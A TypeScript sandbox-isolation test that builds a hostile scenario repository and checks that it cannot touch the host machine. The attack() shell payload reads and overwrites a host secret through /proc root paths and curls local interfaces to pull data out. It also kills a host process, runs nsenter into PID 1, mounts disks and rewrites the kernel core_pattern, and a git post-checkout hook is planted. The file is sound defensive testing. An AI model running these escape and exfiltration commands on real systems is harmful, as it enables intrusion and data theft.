// A stranger's scenario, from a git repository, that tries to reach this machine wherever its scripts run: in setup, in the fault, in a check, in its own
// solution. Nothing of the machine is read, written, asked or ended. Needs a built dist/ and namespaces.
import { type ChildProcess, spawn } from 'node:child_process'
import { appendFile, chmod, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { networkInterfaces, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { parse, stringify } from 'yaml'
import { writeNewScenario } from '../catalogue/authoring/new-scenario.ts'
import { withStranger } from '../catalogue/importing/stranger.ts'
import { runCommand } from '../system/command.ts'
import { formatProof, runProofs } from './run-proofs.ts'

const secret = 'a secret of this machine'
let home: string
let server: Server
let victim: ChildProcess
let requests = 0

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'podwire-stranger-'))
  await chmod(home, 0o777)
  await writeFile(join(home, 'secret'), secret, { mode: 0o666 })
  process.env.PODWIRE_RUNTIME_DIR = await mkdtemp(join(tmpdir(), 'podwire-stranger-run-'))
  process.env.PODWIRE_STATE_DIR ??= join(tmpdir(), 'podwire-proof-logs')
  server = createServer((_, response) => {
    requests++
    response.end(secret)
  }).listen(0, '0.0.0.0')
  await new Promise((resolve) => server.once('listening', resolve))
  victim = spawn('sleep', ['1000'], { stdio: 'ignore' })
})
afterAll(async () => {
  server.close()
  victim.kill()
  await rm(home, { recursive: true, force: true })
  await rm(process.env.PODWIRE_RUNTIME_DIR as string, { recursive: true, force: true })
})

/** Tries everything; what it got is in /tmp/loot of the place, and that it was there in /tmp/tried. Never fails itself. */
function attack(): string {
  const { port } = server.address() as AddressInfo
  const addresses = Object.values(networkInterfaces()).flatMap((list) =>
    (list ?? []).flatMap((each) => (each.family === 'IPv4' ? [each.address] : [])),
  )
  const urls = [...addresses, '127.0.0.1', '172.18.0.1'].map((address) => `http://${address}:${port}/`)
  return `
loot=\${ROOT:-}/tmp/loot; touch "$loot"
for at in "" /proc/1/root /proc/self/root \${ROOT:+/proc/$$/root}; do
  cat "$at${home}/secret" >> "$loot" 2>/dev/null || true
  echo pwned > "$at${home}/secret" 2>/dev/null || true
  echo pwned > "$at${home}/written" 2>/dev/null || true
done
for url in ${urls.join(' ')}; do curl -s -m 0.3 "$url" >> "$loot" 2>/dev/null || true; done
kill -9 ${victim.pid} 2>/dev/null || true
nsenter -t 1 -m -u -n -i -p cat ${home}/secret >> "$loot" 2>/dev/null || true
mkdir -p /tmp/mnt; for disk in /dev/[sv]da /dev/[sv]da1; do mount "$disk" /tmp/mnt 2>/dev/null && cat /tmp/mnt${home}/secret >> "$loot" 2>/dev/null || true; done
echo ${join(home, 'core')} > /proc/sys/kernel/core_pattern 2>/dev/null || true
date >> "\${ROOT:-}/tmp/tried"
`
}

/** A whole scenario that is also an attack; its checks pass only where the attack was tried, and got nothing. */
async function writeHostile(): Promise<string> {
  const id = 'friendly'
  const folder = await writeNewScenario(
    { id, title: 'A friendly one', topic: 'outside', fault: 'firewall-rule' },
    { root: join(import.meta.dirname, '../..'), into: join(home, 'theirs') },
  )
  const places = ['laptop', 'node/worker2']
  await writeFile(join(folder, 'attack.sh'), attack())
  await appendFile(join(folder, 'solve.sh'), attack())
  const path = join(folder, 'scenario.yaml')
  const content = parse(await readFile(path, 'utf8'))
  const steps = places.map((on) => ({ on, script: 'attack.sh' }))
  content.setup.push(...steps, { on: 'pod/client', script: 'attack.sh' })
  content.fault.inject.push(...steps)
  for (const on of places)
    content.guards.push({
      id: `nothing-of-${on.replace('/', '-')}`,
      command: {
        on,
        run: `${attack()}\n[ -s "$ROOT/tmp/tried" ] || { echo 'it was not tried'; exit 1; }\n[ ! -s "$loot" ] || { echo "it got $(cat "$loot")"; exit 1; }`,
        timeoutMs: 10_000,
      },
    })
  await writeFile(path, stringify(content, { aliasDuplicateObjects: false }))
  for (const locale of ['en', 'zh-CN']) {
    const file = join(folder, `text.${locale}.yaml`)
    const text = parse(await readFile(file, 'utf8'))
    for (const on of places) text.guards[`nothing-of-${on.replace('/', '-')}`] = { title: on, failed: '{seen}' }
    await writeFile(file, stringify(text))
  }
  const git = (...args: string[]) =>
    runCommand(['git', '-c', 'user.name=stranger', '-c', 'user.email=stranger@example.org', ...args], { cwd: join(home, 'theirs') })
  await git('init', '--quiet')
  await writeFile(join(home, 'theirs/.git/hooks/post-checkout'), `#!/bin/sh\necho hooked > ${join(home, 'hooked')}\n`, { mode: 0o755 })
  await git('add', '.')
  await git('commit', '--quiet', '-m', 'A friendly scenario')
  return `file://${join(home, 'theirs')}`
}

it('runs inside the lab, and gets nothing of this machine', { timeout: 240_000 }, async () => {
  const url = await writeHostile()
  const into = join(home, 'ours')
  await withStranger(url, undefined, ({ accept }) => accept(into))
  const { scenarios } = await runProofs({ scenarios: 'all', scenariosFolder: into })
  const [proof] = scenarios
  expect(proof?.ok, proof && formatProof(proof)).toBe(true)
  expect(await readFile(join(home, 'secret'), 'utf8')).toBe(secret)
  expect((await readdir(home)).sort()).toEqual(['ours', 'secret', 'theirs'])
  expect(requests).toBe(0)
  expect(victim.exitCode ?? victim.signalCode).toBe(null)
  expect(await readFile('/proc/sys/kernel/core_pattern', 'utf8')).not.toContain(home)
})
